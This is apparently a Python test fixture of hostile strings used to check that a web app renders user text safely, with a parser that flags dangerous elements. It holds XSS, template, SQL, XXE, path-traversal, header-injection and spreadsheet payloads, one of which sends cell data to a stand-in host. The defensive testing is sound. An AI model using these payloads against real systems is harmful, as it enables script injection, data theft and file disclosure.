"""Strings that try to be more than words: for every place that shows text of a release, a file or a person.

Each is `(name, text)`. None may run, break the page or the file it stands in, or lead elsewhere.
Beside them, what to look for in a page that showed them.
"""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE: tuple[tuple[str, str], ...] = (
    ("script", "<script>window.hostile = 1</script>"),
    ("script_in_capitals", "<ScRiPt SRC=//hostile.example/x.js></sCrIpT>"),
    ("image_handler", "<img src=x onerror=window.hostile=1>"),
    ("image_handler_unquoted", "<img src=x onerror='window.hostile=1'//"),
    ("vector_handler", "<svg/onload=window.hostile=1>"),
    ("frame", '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>'),
    ("javascript_address", "javascript:window.hostile=1"),
    ("javascript_address_in_a_link", '<a href="javascript:window.hostile=1">cliquez</a>'),
    ("javascript_address_with_blanks", "java\tscript\n:window.hostile=1"),
    ("data_address", "data:text/html,<script>window.hostile=1</script>"),
    ("out_of_an_attribute", '" autofocus onfocus="window.hostile=1" x="'),
    ("out_of_a_quoted_attribute", "' onmouseover='window.hostile=1' x='"),
    ("out_of_a_title", "</title></textarea></style></script><script>window.hostile=1</script>"),
    ("out_of_a_comment", "--><script>window.hostile=1</script><!--"),
    ("out_of_cdata", "]]><script>window.hostile=1</script><![CDATA["),
    ("style", "</style><style>*{display:none}</style>"),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://hostile.example/">'),
    ("form", '<form action="https://hostile.example/"><button>Suite</button></form>'),
    ("base", '<base href="https://hostile.example/">'),
    ("template_braces", "${window.hostile=1} {{constructor.constructor('window.hostile=1')()}} #{7*7} <%= 7*7 %>"),
    ("format_fields", "{0} {title} {0.__class__.__mro__} %s %(title)s %n"),
    ("entities", "&lt;script&gt;window.hostile=1&lt;/script&gt; &amp;amp; &#60;b&#62; &nbsp; &bogus;"),
    ("xml_entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("markdown", "[cliquez](javascript:window.hostile=1) ![x](https://hostile.example/x) `code` *a* _b_ # t\n---\n> q"),
    ("spreadsheet_formula", '=HYPERLINK("https://hostile.example/?x="&A1,"cliquez")'),
    ("spreadsheet_command", "+cmd|' /C calc'!A1"),
    ("path", "../../../../etc/passwd\\..\\..\\windows\\win.ini"),
    ("control_characters", "avant\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85après"),
    ("not_characters", "avant\ufffe\uffff\ud800 \udfffaprès"),
    ("turned_around", "facture\u202efdp.exe \u2066\u2067\u2068 \u200f\u061c"),
    ("invisible", "\ufeff\u200b\u200d\u2060\u00ad"),
    ("line_ends", "a\r\nSet-Cookie: hostile=1\r\n\r\n<b>b</b>\u2028c\u2029d"),
    ("very_long_word", "Anticonstitutionnellement" * 400),
    ("stacked_marks", "Z" + "\u0310\u0321\u0352" * 60 + "algo"),
    ("query", "'; DROP TABLE releases; -- \" OR 1=1 /* % _"),
    ("quotation_marks", '« Il a dit : “non ‘jamais’ non” » "oui" „nein“ ‚nie‘ »»» «««'),
    ("json", '"}], "scope": "archivist", "x": [{"y": "\\u0000'),
    ("emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 \U0001f1eb\U0001f1f7"),
    ("blank", " \t\r\n\u00a0\u3000 "),
)

EXECUTABLE = frozenset("script iframe object embed base meta form link svg math".split())
"""Elements that no text of others may become."""


class Elements(HTMLParser):
    """What a browser would make of a page: `tags` in order, `attributes` as (tag, name, value), `text`."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def dangerous(self) -> list[str]:
        """Elements that execute or lead away, event handlers, and addresses that are not plain ones."""
        handlers = [f"{tag} {name}" for tag, name, _ in self.attributes if name.startswith("on") or name == "srcdoc"]
        addresses = [
            f"{tag} {name}={value}"
            for tag, name, value in self.attributes
            if name in ("href", "src", "action", "formaction", "xlink:href")
            and not value.startswith(("http://", "https://", "/", "#", "?", "mailto:", "tel:"))
        ]
        return [tag for tag in self.tags if tag in EXECUTABLE] + handlers + addresses
